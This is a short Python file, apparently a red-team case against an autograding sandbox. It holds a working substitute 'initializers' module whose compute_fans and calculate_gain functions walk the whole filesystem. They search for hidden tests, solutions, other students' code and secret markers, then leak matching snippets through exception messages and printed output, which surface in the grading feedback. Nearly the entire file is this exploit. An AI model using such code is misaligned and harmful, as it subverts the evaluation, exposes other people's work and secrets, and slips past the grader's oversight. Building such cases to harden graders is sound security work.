ATTACK = (
    "Walk the whole visible filesystem for the kit's files (hidden tests, solutions, another student's code, "
    "the secret next to the output) and report every hit in the feedback."
)
MODULE = "initializers"
SOURCE = r"""
import os as _os
import time as _time

_SIGNS = ("hidden_seed", "initgrade", "SECRET-", "BEGIN SOLUTION")  # text only the kit's private files hold


def _sweep(seconds=2.0):
    hits, scanned, stop = [], 0, _time.monotonic() + seconds
    for top, dirs, files in _os.walk("/"):
        dirs[:] = [d for d in dirs if _os.path.join(top, d) not in ("/proc", "/sys", "/dev", _os.getcwd())]
        for name in files:
            if _time.monotonic() > stop:
                return hits, scanned, "time box reached"
            path = _os.path.join(top, name)
            if not name.endswith((".py", ".md", ".txt", ".json", ".csv", ".ipynb")) or "nbgrader" in path:
                continue
            try:
                with open(path, errors="replace") as stream:
                    text = stream.read(200_000)
            except OSError:
                continue
            scanned += 1
            found = [sign for sign in _SIGNS if sign in text]
            if found:
                at = text.index(found[0])
                hits.append(f"{path}: {text[max(at - 300, 0):at + 300]}")
    return hits, scanned, "walked everything"


_FOUND = []  # one sweep per worker


def _report():
    if not _FOUND:
        _FOUND.append(_sweep())
    hits, scanned, how = _FOUND[0]
    print(hits)
    return f"{scanned} files scanned ({how}); hits: {hits}"


def compute_fans(shape):
    raise RuntimeError(_report()[:3900])


def calculate_gain(nonlinearity, param=None):
    raise RuntimeError(_report()[-3900:])
"""
